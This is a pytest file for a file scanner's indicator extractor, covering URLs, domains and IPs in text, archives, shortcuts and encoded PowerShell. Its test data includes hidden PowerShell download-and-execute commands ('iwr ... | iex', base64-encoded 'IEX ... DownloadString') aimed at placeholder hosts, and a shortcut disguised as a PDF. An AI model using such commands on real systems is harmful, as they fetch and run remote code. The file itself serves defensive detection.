"""Indicators: URLs, domains and IPs per node and for the whole report; never a finding."""

from __future__ import annotations

import base64
import io
import json
import zipfile

import pylnk3
import pytest
from conftest import node_named

from filewall.analyze.indicators import MAX_INDICATORS, find_indicators


def values(indicators, kind: str | None = None) -> set[str]:
    return {item["value"] for item in indicators if kind is None or item["type"] == kind}


def tags(indicators, value: str) -> list[str]:
    return next(item["tags"] for item in indicators if item["value"] == value)


def test_urls_domains_and_ips_with_tags():
    text = (
        "下载地址 http://127.0.0.1:9/TEST-ONLY 和 https://files.example.invalid/a/b.zip?x=1.\n"
        "备用 down.qianniu-update.top, 后台 8.8.8.8:6666, 内网 10.1.2.3, 文档 192.0.2.44 与 [2001:db8::5]\n"
        "邮件 buyer@shop.example.com 链接 hxxp://evil.example.net/x\n"
    )
    found = find_indicators(text)
    assert values(found, "url") == {
        "http://127.0.0.1:9/TEST-ONLY",
        "https://files.example.invalid/a/b.zip?x=1",
        "http://evil.example.net/x",  # defanged in the text, made usable again
    }
    assert values(found, "domain") == {
        "files.example.invalid",
        "down.qianniu-update.top",
        "shop.example.com",
        "evil.example.net",
    }
    assert values(found, "ip") == {"127.0.0.1", "8.8.8.8", "10.1.2.3", "192.0.2.44", "2001:db8::5"}
    assert tags(found, "127.0.0.1") == ["loopback"]
    assert tags(found, "http://127.0.0.1:9/TEST-ONLY") == ["loopback"]
    assert tags(found, "files.example.invalid") == ["reserved"]
    assert tags(found, "shop.example.com") == ["reserved"]
    assert tags(found, "10.1.2.3") == ["private"]
    assert "documentation" in tags(found, "192.0.2.44") and "documentation" in tags(found, "2001:db8::5")
    assert tags(found, "8.8.8.8") == [] and tags(found, "down.qianniu-update.top") == []


def test_deduplicated_each_url_followed_by_its_host():
    found = find_indicators(
        "http://192.0.2.1/a http://192.0.2.1/a HTTP://192.0.2.1/b 192.0.2.1 Example.COM example.com"
    )
    assert [item["value"] for item in found] == [
        "http://192.0.2.1/a",
        "192.0.2.1",
        "HTTP://192.0.2.1/b",
        "example.com",
    ]


@pytest.mark.parametrize(
    "text",
    [
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"></svg>',
        "window.top.location = x; element.click(); this.name = 'a'; document.link",
        'Set sh = CreateObject("WScript.Shell"): Set w = New-Object Net.WebClient',
        "version 10.0.19041.1 build 1.2.3.4.5, at 12:30:45, setup.exe, main.py, readme.md",
        "[Convert]::FromBase64String($x); std::vector<int>; a::b",
    ],
    ids=["xml-namespaces", "javascript", "com-objects", "versions-and-files", "double-colons"],
)
def test_program_text_is_not_mistaken_for_addresses(text):
    assert find_indicators(text) == []


def test_indicator_count_is_bounded():
    text = " ".join(f"http://192.0.2.{index % 250}/{index}" for index in range(5000))
    assert len(find_indicators(text)) == MAX_INDICATORS


def test_report_gathers_indicators_with_where_and_no_finding(scan):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("a/说明.txt", "请访问 https://shop.example.com/item/1 查看")
        archive.writestr("b/备注.txt", "同上 https://shop.example.com/item/1 ，另见 192.0.2.8")
    report = scan(buffer.getvalue(), "资料.zip")
    assert report.verdict.value == "clean"
    assert not any(finding.rule.startswith("indicator") for finding in report.findings)
    by_value = {item["value"]: item for item in report.indicators}
    assert by_value["https://shop.example.com/item/1"]["where"] == "资料.zip/a/说明.txt"
    assert by_value["192.0.2.8"]["where"] == "资料.zip/b/备注.txt"
    assert [item["value"] for item in report.indicators].count("shop.example.com") == 1
    assert node_named(report, "备注.txt").info["indicators"][0]["value"] == "https://shop.example.com/item/1"
    assert json.loads(json.dumps(report.to_dict()))["indicators"] == report.indicators


def test_indicators_from_a_shortcut_arguments(scan):
    arguments = '-w hidden -c "iwr http://192.0.2.10/TEST-ONLY.ps1 | iex"'
    buffer = io.BytesIO()
    pylnk3.for_file(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", arguments=arguments).write(
        buffer
    )
    report = scan(buffer.getvalue(), "订单.pdf.lnk")
    assert "http://192.0.2.10/TEST-ONLY.ps1" in values(report.indicators, "url")


def test_indicators_from_a_decoded_powershell_command(scan):
    hidden = "IEX (New-Object Net.WebClient).DownloadString('http://stage2.example.invalid/p.ps1')"
    command = "powershell -enc " + base64.b64encode(hidden.encode("utf-16-le")).decode()
    report = scan(command.encode(), "run.cmd")
    assert "http://stage2.example.invalid/p.ps1" in values(report.indicators, "url")
    # The quotes in the findings are shortened and defanged; they add no cut-off URLs.
    assert all(value.startswith(("http://", "https://")) for value in values(report.indicators, "url"))
    assert len(values(report.indicators, "url")) == 1


def test_binary_content_is_not_read_as_text(scan, pe_bytes):
    report = scan(pe_bytes + b"http://192.0.2.9/inside-a-program", "tool.exe")
    assert "http://192.0.2.9/inside-a-program" not in values(report.indicators)
